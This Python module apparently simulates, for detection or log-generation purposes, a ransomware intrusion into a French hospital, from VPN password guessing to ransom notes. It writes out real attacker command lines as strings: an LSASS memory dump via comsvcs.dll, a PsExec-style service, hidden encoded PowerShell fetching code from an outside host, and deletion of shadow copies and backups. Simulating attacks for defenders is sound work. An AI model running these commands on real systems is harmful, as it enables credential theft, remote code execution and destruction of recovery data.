"""Somebody at the end of a stolen VPN tunnel, step by step, from the first wrong password to the note of the ransom."""

from collections.abc import Iterator
from datetime import datetime
from random import Random

from tocsin.simulation import people
from tocsin.simulation.campaigns.campaign import HOSTERS, Server
from tocsin.simulation.clock import after
from tocsin.simulation.days import internet
from tocsin.simulation.days.backups import SERVICE
from tocsin.simulation.days.remote_work import inside
from tocsin.simulation.encoding import encoded
from tocsin.simulation.happenings import Happening, Tunnel
from tocsin.simulation.places import ADMINISTRATOR, BACKUP, DIRECTORY, FILES, RECORDS, Place
from tocsin.simulation.programs import (
    BCDEDIT,
    CMD,
    LSASS,
    NET,
    NLTEST,
    POWERSHELL,
    PSEXESVC,
    RUNDLL32,
    SERVICE_CONTROL,
    VSSADMIN,
    WBADMIN,
    WHOAMI,
    Program,
)
from tocsin.simulation.windows.events import LOCAL_SYSTEM, session
from tocsin.simulation.windows.logons import FROM_NETWORK, REMOTE_DESKTOP, logon
from tocsin.simulation.windows.processes import opened, started, wrote
from tocsin.simulation.windows.services import installed, now_is

GUESSES = range(4, 9)
DISCOVERY = ((WHOAMI, "whoami.exe /all"), (NLTEST, "nltest.exe /dclist:"), (NET, 'net.exe group "Admins du domaine" /domain'))
DESTRUCTION = (
    (VSSADMIN, "vssadmin.exe delete shadows /all /quiet"),
    (WBADMIN, "wbadmin.exe delete catalog -quiet"),
    (BCDEDIT, "bcdedit.exe /set {default} recoveryenabled No"),
)
ENCRYPTED = range(120, 200)
SUFFIX, NOTE = ".blesse", "LISEZ-MOI.txt"
FOLDERS = ("Direction", "Laboratoire", "Pharmacie", "Radiologie", "Ressources humaines", "Urgences")
DOCUMENTS = ("compte-rendu", "planning", "budget", "protocole", "liste", "courrier", "bilan")
LSASS_ACCESS = "0x1fffff"


class Intruder:
    """Time passes from step to step; each step gives what happens in it."""

    def __init__(self, rng: Random, place: Place, begin: datetime, entry: str, country: str, pace: float) -> None:
        self._rng, self._place, self._now, self._pace = rng, place, begin, pace
        self._entry, self._country = entry, country
        self._account = rng.choice(people.nurses(place.finess))
        self._machine, self._tunnel, self._entered = inside(rng), rng.getrandbits(31), begin

    def _later(self, least: float, most: float) -> datetime:
        """Between so many seconds later, at the usual pace."""
        self._now = after(self._rng, self._now, least * self._pace, most * self._pace)
        return self._now

    def _step(self, step: str, seconds: int = 0) -> Tunnel:
        got = (self._machine.ip, self._tunnel, seconds) if step != "refused" else ()
        return Tunnel(self._now, step, self._account, self._entry, self._country, *got)

    def enters(self) -> Iterator[Happening]:
        """Wrong passwords, then the right one."""
        for _ in range(self._rng.choice(GUESSES)):
            yield self._step("refused")
            self._later(8, 40)
        self._entered = self._now
        yield self._step("opened")

    def looks_around(self) -> Iterator[Happening]:
        """Over SMB at each server, over remote desktop at the files, where the first commands are given."""
        for server in (FILES, RECORDS, DIRECTORY):
            who = session(self._rng, self._place, server, self._account)
            yield logon(self._rng, self._later(40, 200), who, FROM_NETWORK, self._machine, "NTLM")
        who = session(self._rng, self._place, FILES, self._account)
        yield logon(self._rng, self._later(120, 400), who, REMOTE_DESKTOP, self._machine)
        for program, command in DISCOVERY:
            yield from started(self._rng, self._later(20, 90), who, program, command, CMD)

    def takes_the_directory(self) -> Iterator[Happening]:
        """A service like that of PsExec, and under it the memory of lsass is written to a file."""
        rng, place = self._rng, self._place
        who = session(rng, place, DIRECTORY, ADMINISTRATOR)
        yield logon(rng, self._later(400, 900), who, FROM_NETWORK, self._machine, "NTLM")
        yield installed(self._later(1, 3), who, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
        yield now_is(self._later(0.1, 0.5), who, "PSEXESVC", "running")
        system = session(rng, place, DIRECTORY, LOCAL_SYSTEM)
        yield from started(rng, self._later(0.2, 1), system, PSEXESVC, PSEXESVC.image, SERVICE_CONTROL)
        yield from started(rng, self._later(0.2, 1), system, CMD, "cmd.exe", PSEXESVC)
        dump = f"C:\\Windows\\Temp\\{rng.getrandbits(32):08x}.dmp"
        command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 {dump} full"
        yield from started(rng, self._later(60, 300), system, RUNDLL32, command, CMD)
        yield opened(rng, self._later(0.1, 0.5), system, RUNDLL32, LSASS, LSASS_ACCESS)
        yield wrote(rng, self._later(0.5, 3), system, RUNDLL32, dump)

    def calls_home(self, server: Server) -> Iterator[Happening]:
        """Hidden PowerShell fetches an implant, which asks for orders over HTTPS again and again."""
        rng = self._rng
        who = session(rng, self._place, FILES, ADMINISTRATOR)
        host = f"{rng.choice(('api', 'img', 'www', 'static'))}.{server.domain}"
        script = encoded(f"IEX (New-Object Net.WebClient).DownloadString('https://{host}/{rng.getrandbits(32):08x}')")
        yield from started(rng, self._later(300, 600), who, POWERSHELL, f"powershell.exe -nop -w hidden -enc {script}", CMD)
        country = rng.choice(HOSTERS)
        for _ in range(rng.randrange(6, 10)):
            moment = self._later(20, 120)
            yield from internet.seen_by_sysmon(rng, moment, who, POWERSHELL, host, server.ip)
            yield from internet.outward(rng, moment, FILES, host, server.ip, country=country)

    def encrypts(self, tool: Program) -> Iterator[Happening]:
        """The backup stops, the means of recovery go, the files change, and a note is left in every folder."""
        rng = self._rng
        keeper = session(rng, self._place, BACKUP, ADMINISTRATOR)
        yield logon(rng, self._later(600, 1200), keeper, REMOTE_DESKTOP, self._machine)
        yield from started(rng, self._later(20, 60), keeper, NET, f'net.exe stop "{SERVICE}" /y', CMD)
        yield now_is(self._later(0.5, 2), keeper, SERVICE, "stopped")
        who = session(rng, self._place, FILES, ADMINISTRATOR)
        yield logon(rng, self._later(60, 200), who, REMOTE_DESKTOP, self._machine)
        yield wrote(rng, self._later(20, 60), who, CMD, tool.image)
        yield from started(rng, self._later(5, 20), who, tool, f"{tool.image} -p D:\\", CMD)
        for program, command in DESTRUCTION:
            yield from started(rng, self._later(1, 8), who, program, command, tool)
        for number in range(rng.choice(ENCRYPTED)):
            name = f"{rng.choice(DOCUMENTS)}-{number:03}.{rng.choice(('docx', 'xlsx', 'pdf'))}"
            yield wrote(rng, self._later(0.05, 0.6), who, tool, f"D:\\Services\\{rng.choice(FOLDERS)}\\{name}{SUFFIX}")
        for folder in FOLDERS:
            yield wrote(rng, self._later(0.05, 0.3), who, tool, f"D:\\Services\\{folder}\\{NOTE}")

    def leaves(self) -> Iterator[Happening]:
        """The tunnel ends."""
        self._later(60, 600)
        yield self._step("closed", round((self._now - self._entered).total_seconds()))
